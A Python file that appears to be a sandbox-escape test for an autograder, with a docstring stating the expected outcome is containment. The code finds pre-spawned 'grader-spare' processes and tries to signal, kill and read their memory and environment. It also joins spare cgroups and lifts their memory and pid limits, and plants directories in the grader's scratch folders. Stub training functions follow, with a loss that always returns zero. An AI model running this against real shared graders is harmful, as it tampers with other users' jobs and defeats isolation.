"""Attack: find the spare children that wait for the next students' jobs (named grader-spare, this worker's and
any sibling's) and their spare-* cgroups, then kill, stop, read and write them: their memory, their working
directory, their cgroups (join one, lift its limits) and the workers' scratch folders.
Expected: no spare is visible (PID namespace) or none can be touched (root, not dumpable, another uid); the
next job's limits hold; the worker and its sibling grade on; below full marks."""
import os
import signal

done = []
for pid in (int(p) for p in os.listdir("/proc") if p.isdigit()):
    try:
        with open(f"/proc/{pid}/comm") as comm:
            if comm.read().strip() != "grader-spare":
                continue
    except OSError:
        continue
    for sig in (signal.SIGSTOP, signal.SIGKILL):
        try:
            os.kill(pid, sig)
            done.append(f"signal {sig} to spare {pid}")
        except OSError:
            pass
    for path, mode in ((f"/proc/{pid}/mem", "r+b"), (f"/proc/{pid}/environ", "rb"), (f"/proc/{pid}/fd", None),
                       (f"/proc/{pid}/cwd", None)):
        try:
            if mode is None:
                os.listdir(path)
            else:
                open(path, mode).close()
            done.append(f"opened {path}")
        except OSError:
            pass
for controller in ("memory", "pids"):
    top = f"/sys/fs/cgroup/{controller}"
    for parent, names, _ in os.walk(top):
        if parent.count("/") > 8:
            names[:] = []
            continue
        for name in names:
            if not name.startswith("spare-"):
                continue
            spare = os.path.join(parent, name)
            for file, value in (("cgroup.procs", str(os.getpid())), ("memory.limit_in_bytes", "-1"),
                                ("memory.memsw.limit_in_bytes", "-1"), ("pids.max", "max")):
                try:
                    with open(os.path.join(spare, file), "w") as handle:
                        handle.write(value)
                    done.append(f"wrote {spare}/{file}")
                except OSError:
                    pass
            try:
                os.mkdir(os.path.join(spare, "inside"))
                done.append(f"made a cgroup in {spare}")
            except OSError:
                pass
for name in os.listdir("/tmp"):
    if name.startswith("grader-zygote-"):
        try:
            for sub in os.listdir(f"/tmp/{name}"):
                done.append(f"listed /tmp/{name}/{sub}")
        except OSError:
            pass
        try:
            os.mkdir(f"/tmp/{name}/planted")
            done.append(f"planted in /tmp/{name}")
        except OSError:
            pass
for line in done:
    print("DID", line)


def forward(w, x):
    return w * x


def loss(y, y_pred):
    return 0.0


def train(x, y, w=0.0, learning_rate=0.01, n_iters=100):
    return [(0.0, 0.0)] * n_iters
